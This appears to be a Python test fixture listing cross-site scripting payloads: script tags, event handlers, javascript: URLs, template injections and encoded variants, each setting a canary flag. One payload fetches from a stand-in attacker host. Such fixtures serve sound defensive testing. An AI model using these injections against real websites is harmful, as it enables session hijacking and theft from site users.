"""Strings that run where text becomes markup, code or an address. Each would set `__xss`."""

from __future__ import annotations

_RUN = "window.__xss=1"
_FETCHED = "fetch(`//evil.example`)"

#: Without `/` and NUL, which no file name can hold.
PAYLOADS: tuple[str, ...] = (
    f"<script>{_RUN}</script>".replace("/", "\\x2f"),
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f'"><svg onload={_RUN}>',
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body onload={_RUN}>",
    f"<iframe srcdoc='<img src=x onerror=parent.__xss=1>'>",
    f"<iframe src=javascript:{_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}>",
    f"<audio src=x onerror={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<math><mtext><img src=x onerror={_RUN}>",
    f"<style>@keyframes x{{}}<b style=animation-name:x onanimationstart={_RUN}>",
    f"<object data=javascript:{_RUN}>",
    f"<embed src=javascript:{_RUN}>",
    f"<a href=javascript:{_RUN}>press",
    f"javascript:{_RUN}",
    f"data:text;html,<script>{_RUN}",
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus='",
    f"`-{_RUN}-`",
    f"${{{_RUN}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"\\u003cimg src=x onerror={_RUN}\\u003e",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"%3Cimg src=x onerror={_RUN}%3E",
    f"<img src=x onerror\n={_RUN}>",
    f"<<img src=x onerror={_RUN}>",
    f"<noscript><p title='<img src=x onerror={_RUN}>'>",
    f"<template><img src=x onerror={_RUN}>",
    f"<meta http-equiv=refresh content=0;url=javascript:{_RUN}>",
    f"<base href=javascript:{_RUN}>",
    f"\u202e<img src=x onerror={_RUN}>",
    f"\x1b[31m<img src=x onerror={_RUN}>",
    f"<img src=x onerror={_FETCHED}>".replace("/", "\\x2f"),
    f"];{_RUN};[",
)
